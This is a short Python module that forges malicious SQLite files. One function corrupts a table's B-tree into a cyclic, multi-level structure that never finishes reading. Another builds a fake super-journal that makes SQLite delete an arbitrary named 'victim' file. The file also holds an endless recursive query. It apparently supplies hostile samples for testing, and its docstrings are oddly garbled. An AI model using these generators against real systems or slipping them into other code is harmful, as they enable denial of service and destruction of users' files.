"""SQLite databases that never come to an end, or that have SQLite remove another file."""

from __future__ import annotations

import os
import sqlite3
import struct
from pathlib import Path

ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n) SELECT i AS key, i AS value FROM n WHERE i > 1"


def make_endless(index: Path, table: str = "Cache") -> None:
    """Have a table, that of entries, say 300 times over, on each of 8 levels, that the next level comes now."""
    database = sqlite3.connect(index)
    database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    ((size,),) = database.execute("PRAGMA page_size").fetchall()
    ((root,),) = database.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchall()
    database.close()
    content = bytearray(index.read_bytes())
    pages, at = len(content) // size, (root - 1) * size
    leaf = bytes(content[at : at + size])

    def level(below: int) -> bytes:
        start = size - 5 * 300
        head = struct.pack(">BHHHBI", 5, 0, 300, start, 0, below)
        pointers = struct.pack(">300H", *range(start, size, 5))
        return (head + pointers).ljust(start, b"\0") + (struct.pack(">I", below) + b"\x01") * 300

    content += leaf
    for number in range(7):
        content += level(pages + 1 + number)
    content[at : at + size] = level(pages + 8)
    content[28:32] = struct.pack(">I", pages + 8)
    index.write_bytes(content)


def super_journal(victim: Path) -> bytes:
    """A journal that has nothing to roll back and says of which larger transaction it is: SQLite removes that file."""
    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
    header = magic + struct.pack(">5I", 0, 0, 1, 512, 4096)
    lock_page = struct.pack(">I", 2**30 // 4096 + 1)
    return header.ljust(512, b"\0") + lock_page + name + struct.pack(">2I", len(name), sum(name)) + magic
